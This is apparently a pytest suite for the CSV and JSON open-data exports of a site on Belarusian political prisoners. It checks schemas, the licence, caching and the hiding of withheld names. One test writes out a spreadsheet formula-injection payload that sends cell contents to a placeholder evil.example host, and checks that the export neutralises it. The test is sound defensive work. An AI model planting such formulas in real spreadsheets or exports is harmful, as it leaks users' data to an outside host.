"""Open data: JSON and CSV with schemas, a licence and the build date; nothing withheld."""

from __future__ import annotations

import csv
import json

import jsonschema
import pytest

from conftest import TODAY, parse

KINDS = ("prisoners", "releases", "facilities", "statistics", "sources")


@pytest.mark.parametrize("kind", KINDS)
def test_exports_validate_against_their_published_schema(built_sample, kind):
    data = json.loads((built_sample / f"data/{kind}.json").read_text(encoding="utf-8"))
    schema = json.loads((built_sample / f"data/{kind}.schema.json").read_text(encoding="utf-8"))
    jsonschema.validate(data, schema)
    assert data["licence"]["name"] == "CC BY 4.0" and data["schema"] == f"{kind}.schema.json"
    assert data[kind]


def test_exports_carry_the_build_date(built_fixture):
    data = json.loads((built_fixture / "data/statistics.json").read_text(encoding="utf-8"))
    assert data["built"] == TODAY.isoformat()


def test_csv_has_a_row_per_shown_person(built_sample):
    rows = list(csv.DictReader((built_sample / "data/prisoners.csv").open(encoding="utf-8")))
    assert len(rows) == 11
    losik = next(r for r in rows if r["slug"] == "ihar-losik")
    assert (losik["name_be"], losik["status"], losik["released"]) == (
        "Ігар Лосік", "exiled", "2025-09-11")


def test_no_withheld_value_anywhere_in_the_site(built_fixture):
    """The withheld person's name, in every form, appears in no file of the built site."""
    data = json.loads((built_fixture / "data/prisoners.json").read_text(encoding="utf-8"))
    assert "withheld-1" not in [p["slug"] for p in data["prisoners"]]
    for path in built_fixture.rglob("*"):
        if path.is_file() and path.suffix not in (".png",):
            assert b"Secret Person" not in path.read_bytes(), path


def test_footer_links_the_data(built_fixture):
    footer = parse(built_fixture / "be/index.html").find("footer")
    hrefs = [a["href"] for a in footer.find_all("a")]
    assert "../data/prisoners.json" in hrefs and "../data/prisoners.csv" in hrefs


def test_a_withheld_name_cannot_be_the_file_name(project):
    from conftest import errors

    root = project("minimal")
    (root / "data/prisoners/withheld-1.yaml").rename(root / "data/prisoners/secret-person.yaml")
    found = [str(p) for p in errors(root)]
    assert found == ["data/prisoners/secret-person.yaml:6:1 name_withheld: the file name "
                     "contains the withheld name; rename the file to something that does not "
                     "identify the person, e.g. withheld-2.yaml"]


def test_search_index_per_language_without_withheld_people(built_fixture):
    folder = built_fixture / "be/search"
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    docs = [doc for i in range(0, manifest["count"], manifest["chunk"])
            for doc in json.loads((folder / f"d/{i // manifest['chunk']}.json").read_text())]
    assert len(docs) == manifest["count"]
    anna = next(doc for doc in docs if doc[0] == "../prisoners/anna-test/")
    assert anna[1:3] == ["Ганна Тэст", "prisoner"]
    assert anna[3].startswith("Вызвалена · статус па стане на 12 верасня 2025")
    assert (folder / "../prisoners/anna-test/index.html").resolve().is_file()
    everything = " ".join(p.read_text(encoding="utf-8") for p in folder.rglob("*.json"))
    assert "Тэст" in everything and "secret" not in everything.casefold()
    assert "Secret" in (built_fixture.parent / "data/prisoners/withheld-1.yaml").read_text()


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_csv_cell_is_never_a_spreadsheet_formula(project, start):
    """OWASP's rule: a cell starting like a formula gets a leading apostrophe in the CSV;
    the JSON keeps the text as written."""
    from conftest import build

    root = project("minimal")
    name = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    path = root / "data/prisoners/anna-test.yaml"
    path.write_text(path.read_text().replace("  en: Anna Test", "  en: " + json.dumps(name), 1))
    build(root)
    rows = list(csv.DictReader((root / "site/data/prisoners.csv").open(
        encoding="utf-8", newline="")))
    anna = next(r for r in rows if r["slug"] == "anna-test")
    assert anna["name_en"] == "'" + name
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for cell in row.values())
    data = json.loads((root / "site/data/prisoners.json").read_text(encoding="utf-8"))
    assert next(p for p in data["prisoners"] if p["slug"] == "anna-test")["name"]["en"] == name


def test_cells_starting_with_a_tab_or_carriage_return_are_neutralised_too():
    from portal.outputs.opendata import cell

    assert [cell(x) for x in ("\t=1+1", "\r=1+1", "＝1+1", "Anna", "2021-05")] == [
        "'\t=1+1", "'\r=1+1", "'＝1+1", "Anna", "2021-05"]


def test_every_csv_cell_is_quoted_so_a_semicolon_starts_no_cell(project):
    """Spreadsheets set for Belarusian or Russian split on ";": a quoted cell stays one."""
    from conftest import build

    root = project("minimal")
    path = root / "data/prisoners/anna-test.yaml"
    path.write_text(path.read_text().replace("  be: Ганна Тэст", '  be: "Ганна;=1+1"', 1))
    build(root)
    text = (root / "site/data/prisoners.csv").read_text(encoding="utf-8")
    assert '"Ганна;\'=1+1"' in text
    rows = list(csv.reader(text.splitlines(), delimiter=";"))
    assert all(not cell.startswith("=") for row in rows for cell in row)


@pytest.mark.parametrize("name, message", [
    ("Anna\tTest", "a name is one line of text, without tabs"),
    ("Anna\rTest", "the text holds a control character (U+000D)"),
])
def test_names_with_tabs_or_line_breaks_are_refused(project, name, message):
    from conftest import errors

    root = project("minimal")
    path = root / "data/prisoners/anna-test.yaml"
    path.write_text(path.read_text().replace("  en: Anna Test", "  en: " + json.dumps(name), 1))
    assert any(message in p.message and p.field == "name.en" for p in errors(root))


@pytest.mark.parametrize("kept", [False, True])
def test_records_indented_one_at_a_time_are_the_same_bytes_as_all_at_once(kept, monkeypatch):
    """prisoners.json is indented record by record (remembered for the live preview):
    byte for byte what indenting the whole file gives, for any records."""
    import random

    from portal.memo import ByObject
    from portal.outputs.opendata import _json, _records_json

    monkeypatch.setattr(ByObject, "kept", kept)

    rng = random.Random(7)

    def value(depth: int = 0):
        roll = rng.random()
        if depth > 3 or roll < 0.3:
            return rng.choice([None, 1, -2.5, True, "", "a\nb", 'Ганна "Г"', "ў\\"])
        if roll < 0.6:
            return [value(depth + 1) for _ in range(rng.randint(0, 3))]
        return {rng.choice(["a", "b", "Ж", "prisoners"]): value(depth + 1)
                for _ in range(rng.randint(0, 3))}

    for _ in range(500):
        envelope = {"licence": {"name": "CC"}, "built": "2025-12-20", "site": "s",
                    "schema": "prisoners.schema.json",
                    "prisoners": [value() for _ in range(rng.randint(0, 6))]}
        assert _records_json(envelope, "prisoners") == _json(envelope)
        assert _records_json(envelope, "prisoners") == _json(envelope)  # remembered


def test_records_kept_between_builds_are_the_same_bytes(tmp_path):
    """The records' JSON and CSV rows kept under .cache/records/ give the bytes that
    making them gives, for records of every shape, however often they are read back."""
    import random

    from portal.outputs.opendata import KeptRecords, _csv_row, _json, _records_json

    rng = random.Random(11)
    records = [{"slug": f"p{n}", "name": {"en": rng.choice(["A", "Ганна", "=1+1"])},
                "gender": "female", "status": "released", "verified": "2025",
                "roles": rng.choice([[], ["journalist"]]), "facility": None,
                "political_prisoner": rng.random() < 0.5, "url": "u", "reported": [],
                "events": [{"type": "detained", "date": rng.choice([None, "2021-05"]),
                            "reported": []}], "n": rng.choice([1, 1.0, True, "1"])}
               for n in range(40)]
    envelope = {"licence": {"name": "CC"}, "built": "2025-12-20", "site": "s",
                "schema": "prisoners.schema.json", "prisoners": records}
    for _ in range(3):  # made, then read back from the entry the last one saved
        kept = KeptRecords(tmp_path / "records")
        assert _records_json(envelope, "prisoners", kept) == _json(envelope)
        assert [kept.get("row", r, _csv_row) for r in records] == [_csv_row(r) for r in records]
        kept.save()
    assert any((tmp_path / "records").iterdir())


def test_a_build_after_a_profile_edit_makes_only_that_record_again(project, tmp_path,
                                                                   monkeypatch):
    from portal.outputs import opendata

    from conftest import build, snapshot

    root = project("minimal")
    build(root, jobs=1)
    made = []
    for name in ("_indented", "_csv_row"):
        real = getattr(opendata, name)
        monkeypatch.setattr(opendata, name, lambda item, real=real, name=name: (
            made.append((name, item.get("slug"))), real(item))[1])
    path = root / "data/prisoners/anna-test.yaml"
    path.write_text(path.read_text().replace("  en: A journalist", "  en: A reporter"))
    build(root, jobs=1)
    people = [(name, slug) for name, slug in made if slug]  # other kinds are a few lines
    assert sorted(people) == [("_csv_row", "anna-test"), ("_indented", "anna-test")]
    build(root, tmp_path / "fresh", jobs=1, cache=False)
    assert snapshot(root / "site") == snapshot(tmp_path / "fresh")
